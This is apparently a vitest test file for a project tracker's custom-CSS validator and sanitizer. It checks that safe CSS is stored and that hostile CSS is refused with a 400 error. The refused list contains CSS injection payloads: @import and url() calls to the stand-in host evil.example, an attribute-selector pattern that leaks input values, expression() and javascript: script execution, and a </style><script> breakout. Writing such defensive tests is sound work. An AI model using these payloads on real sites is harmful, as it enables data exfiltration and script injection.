import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { customCssProblem, sanitizeCustomCss } from '../../src/modules/settings/custom-css'
import { createProject, createUser, type TestProject, type TestUser } from '../helpers/fixtures'
import { createTestApp, type TestApp } from '../helpers/test-app'

const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

const accepted = [
  '.bug { color: red }',
  `.hero { background: url(${PIXEL}) no-repeat }`,
  `.hero { background-image: url("${PIXEL}") }`,
  '@media (max-width: 600px) { .bug { display: none } }',
  '@media (width < 600px) { .bug { margin: 0 } }',
  '@supports (display: grid) { .list { display: grid } }',
  '@keyframes pulse { from { opacity: 1 } to { opacity: .5 } }',
  "@font-face { font-family: Game; src: local('Arial') }",
  '.q::before { content: "\\201C" }',
  '.bug { background: linear-gradient(#000, #fff) }',
  '/* theme */ a:hover { text-decoration: underline }',
  '',
]

/** [css, the message after "custom_css: "] */
const refused: [string, string][] = [
  ['@import url(http://evil.example/x.css);', '@import is not allowed'],
  ['@import "http://evil.example/x.css";', '@import is not allowed'],
  ['@IMPORT url(//evil.example/x.css);', '@import is not allowed'],
  ['@\\69mport url(//evil.example/x.css);', 'is not valid CSS (line 1: At-rule without name)'],
  ['@namespace svg url(http://www.w3.org/2000/svg);', '@namespace is not allowed'],
  ['@charset "utf-8";', '@charset is not allowed'],
  ['.a { background: url(http://evil.example/pixel.gif) }', 'url() is only allowed with a data:image (png, jpeg, gif or webp) URL'],
  ['.a { background: url("https://evil.example/p.png") }', 'url() is only allowed with a data:image (png, jpeg, gif or webp) URL'],
  ['.a { background: URL(//evil.example/p.png) }', 'url() is only allowed with a data:image (png, jpeg, gif or webp) URL'],
  ['.a { background: u\\72 l(//evil.example/p.png) }', 'url() is only allowed with a data:image (png, jpeg, gif or webp) URL'],
  ['.a { background: url(data:image/svg+xml;base64,PHN2Zz4=) }', 'url() is only allowed with a data:image (png, jpeg, gif or webp) URL'],
  ['.a { background: url(data:text/html,hi) }', 'url() is only allowed with a data:image (png, jpeg, gif or webp) URL'],
  ['@font-face { font-family: X; src: url(https://evil.example/f.woff2) }', 'url() is only allowed with a data:image (png, jpeg, gif or webp) URL'],
  ['input[value^="a"] { background: url(https://evil.example/?a) }', 'url() is only allowed with a data:image (png, jpeg, gif or webp) URL'],
  ['.a { background: image-set("https://evil.example/p.png" 1x) }', 'image-set() is not allowed'],
  ['.a { background: -webkit-image-set("https://evil.example/p.png" 1x) }', '-webkit-image-set() is not allowed'],
  ['.a { background: image("https://evil.example/p.png") }', 'image() is not allowed'],
  ['.a { background: src("https://evil.example/p.png") }', 'src() is not allowed'],
  ['.a { width: expression(alert(1)) }', 'expression( is not allowed'],
  ['.a { width: ex\\70 ression(alert(1)) }', 'expression( is not allowed'],
  ['.a { background: url(javascript:alert(1)) }', 'javascript: is not allowed'],
  ['.a { background: url(JavaScript:alert(1)) }', 'javascript: is not allowed'],
  ['.a { width: EXPRESSION (alert(1)) }', 'expression( is not allowed'],
  ['.a { behavior: url(x.htc) }', 'behavior is not allowed'],
  ['.a { -moz-binding: url(x.xml#b) }', '-moz-binding is not allowed'],
  ['body{}</style><script>alert(1)</script>', 'markup (<tag, </ or <!) is not allowed'],
  ['.a { content: "</sTyLe>" }', 'markup (<tag, </ or <!) is not allowed'],
  ['a{} <SCRIPT src=x>', 'markup (<tag, </ or <!) is not allowed'],
  ['<!-- .a { color: red } -->', 'markup (<tag, </ or <!) is not allowed'],
  ['.a { color: red', 'is not valid CSS (line 1: Unclosed block)'],
]

describe('customCssProblem', () => {
  it.each(accepted)('accepts %s', (css) => expect(customCssProblem(css)).toBeNull())
  it.each(refused)('refuses %s', (css, problem) => expect(customCssProblem(css)).toBe(problem))
})

describe('sanitizeCustomCss', () => {
  it('keeps safe CSS as it is', () => {
    for (const css of accepted.filter((c) => !c.includes('<'))) expect(sanitizeCustomCss(css)).toBe(css)
  })

  it('drops what is outside the subset and escapes <', () => {
    const css = `@import url(http://evil.example/x.css);\n.a { color: red; background: url(http://evil.example/p.gif) }\n.b { -moz-binding: url(x) }\n.c::after { content: "</style>" }`
    const out = sanitizeCustomCss(css)
    expect(out).not.toMatch(/@import|evil|binding|<\//i)
    expect(out).toContain('color: red')
    expect(out).toContain('content: "\\3c /style>"')
    expect(customCssProblem(out)).toBeNull()
  })

  it('gives nothing for CSS that does not parse', () => expect(sanitizeCustomCss('.a { color: red')).toBe(''))
})

describe('PUT /projects/:slug/tracker-settings custom_css', () => {
  let t: TestApp
  let owner: TestUser
  let project: TestProject
  beforeEach(async () => {
    t = createTestApp()
    owner = await createUser(t)
    project = await createProject(t, owner)
  })
  afterEach(() => t.close())
  const put = (custom_css: string) => t.request('PUT', `/api/projects/${project.slug}/tracker-settings`, { token: owner.token, body: { custom_css } })
  const stored = async () => (await t.request('GET', `/api/projects/${project.slug}/tracker-settings`, { token: owner.token })).body.data.custom_css

  it.each(refused)('answers 400 naming the construct for %s and stores nothing', async (css, problem) => {
    const res = await put(css)
    expect(res.status).toBe(400)
    expect(res.body).toEqual({ ok: false, error: `custom_css: ${problem}` })
    expect(await stored()).toBe('')
  })

  it.each(accepted)('stores %s', async (css) => {
    expect((await put(css)).status).toBe(200)
    expect(await stored()).toBe(css)
  })

  it('still refuses more than 20 KB, saying so', async () => {
    const res = await put(`.a{color:red}/*${'x'.repeat(20 * 1024)}*/`)
    expect(res.status).toBe(400)
    expect(res.body.error).toBe('custom_css: must be at most 20 KB')
  })
})
